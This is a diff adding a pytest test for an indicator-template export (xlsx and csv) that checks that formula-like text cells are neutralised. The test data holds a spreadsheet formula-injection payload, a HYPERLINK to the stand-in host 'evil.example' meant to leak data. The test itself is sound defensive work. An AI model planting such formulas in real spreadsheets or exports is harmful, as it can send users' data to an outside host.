@@ -225,3 +225,20 @@ def test_upload_page_lists_the_columns_in_german_with_english_names(client, worl
     assert '<th scope="row" lang="de"><code>Indikator</code></th>' in page
     assert '<td lang="en"><code>indicator</code>' in page
     assert '<code lang="de">Gebiet, ARS, AGS</code>' in page
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
+def test_template_text_cells_are_formula_safe(client, world, fmt):
+    """An indicator title a spreadsheet would run as a formula arrives neutralised."""
+    world.un.title_de = '=HYPERLINK("http://evil.example/?leak","Klick")'
+    world.un.save()
+    select(world, world.org_a, world.members["admin"], world.un)
+    client.force_login(world.members["editor"])
+    content = template(client, world, fmt).content
+    if fmt == "xlsx":
+        _, rows = data_rows(content)
+        titles = [r[8] for r in rows]
+    else:
+        text = content.decode("utf-8-sig")
+        titles = [line.split(";")[8] for line in text.splitlines()[1:] if line]
+    assert titles and all(str(t).lstrip('"').startswith("'=") for t in titles), titles
